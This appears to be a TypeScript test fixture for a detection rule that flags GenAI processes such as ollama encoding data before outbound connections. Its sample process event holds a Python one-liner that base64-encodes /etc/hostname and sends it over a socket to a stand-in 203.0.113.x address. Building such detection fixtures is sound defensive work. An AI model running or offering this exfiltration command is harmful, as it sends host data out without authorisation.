import type { AlertMatch } from '../../src/alerts/alert-match.js';
import type { EcsEvent } from '../../src/ecs/ecs-event.js';
import type { RuleMeta } from '../../src/rules/rule-meta.js';

/** The seed rule's metadata, as the rules loader builds it. */
export const SEED_RULE: RuleMeta = {
  id: 'c3d4e5f6-a7b8-9012-cdef-123456789abc',
  name: 'GenAI Process Performing Encoding/Chunking Prior to Network Activity',
  severity: 'medium',
  riskScore: 47,
  tags: ['Domain: Endpoint', 'OS: Linux', 'Tactic: Exfiltration'],
  threat: [{ framework: 'MITRE ATT&CK', tactic: { id: 'TA0010', name: 'Exfiltration', reference: 'https://attack.mitre.org/tactics/TA0010/' } }],
  description: 'Detects when GenAI processes perform encoding or chunking followed by outbound network activity.',
  file: 'config/rules/defense_evasion_genai_process_encoding_prior_to_network_activity.toml',
};

/**
 * A realistic 2-event seed match (process start of `python3 -c ...base64...` under `ollama`, then its
 * connection attempt), unique per `n`. Sizes are what the normalizer emits (about 2 KB of JSON).
 */
export function sampleMatch(n: number, timeMs = Date.UTC(2026, 10, 28, 8, 0, 0) + n * 10, rule: RuleMeta = SEED_RULE): AlertMatch {
  const entity = `ZWNhYmRlZjAtMDAwMC0wMDAwLTAwMDAt${n.toString(16).padStart(8, '0')}`;
  const host = { name: 'ws-01', id: '5f1c2b3a4d5e6f708192a3b4c5d6e7f8', os: 'linux' };
  const args = ['python3', '-c', `import base64,socket;d=base64.b64encode(open("/etc/hostname","rb").read());s=socket.socket();s.connect(("203.0.113.${n % 250}",443))`];
  const exec: EcsEvent = {
    '@timestamp': new Date(timeMs - 5).toISOString(),
    event: { id: `ev-${n}-1`, kind: 'event', category: ['process'], type: ['start'], action: 'exec', dataset: 'endpoint.events.process', sequence: 2 * n },
    process: {
      entity_id: entity, pid: 4000 + (n % 30000), name: 'python3', executable: '/usr/bin/python3.11', args, args_count: args.length,
      command_line: args.join(' '), working_directory: '/home/dev', start: new Date(timeMs - 5).toISOString(),
      parent: { entity_id: 'cGFyZW50LW9sbGFtYQ', pid: 3999, name: 'ollama', executable: '/usr/local/bin/ollama', args: ['ollama', 'serve'], args_count: 2, command_line: 'ollama serve' },
      Ext: { ancestry: ['cGFyZW50LW9sbGFtYQ', 'c3lzdGVtZA'] },
    },
    user: { id: '1000', name: 'dev' }, group: { id: '1000', name: 'dev' },
    host: { name: host.name, id: host.id, os: { type: 'linux', family: 'debian' } },
    agent: { id: 'agent-1', type: 'vigil', version: '0.1.0' },
  };
  const connect: EcsEvent = {
    '@timestamp': new Date(timeMs).toISOString(),
    event: { id: `ev-${n}-2`, kind: 'event', category: ['network'], type: ['start'], action: 'connection_attempted', outcome: 'failure', dataset: 'endpoint.events.network', sequence: 2 * n + 1 },
    source: { ip: '0.0.0.0', port: 0 },
    destination: { ip: `203.0.113.${n % 250}`, port: 443 },
    network: { transport: 'tcp', type: 'ipv4', direction: 'egress' },
    process: { entity_id: entity, pid: 4000 + (n % 30000), name: 'python3', executable: '/usr/bin/python3.11', command_line: args.join(' '), parent: { entity_id: 'cGFyZW50LW9sbGFtYQ' } },
    user: { id: '1000', name: 'dev' },
    host: { name: host.name, id: host.id, os: { type: 'linux', family: 'debian' } },
    agent: { id: 'agent-1', type: 'vigil', version: '0.1.0' },
  };
  return { rule, events: [exec, connect], joinKeys: [entity], host, collector: 'ebpf', lostEvents: 0, timeMs };
}
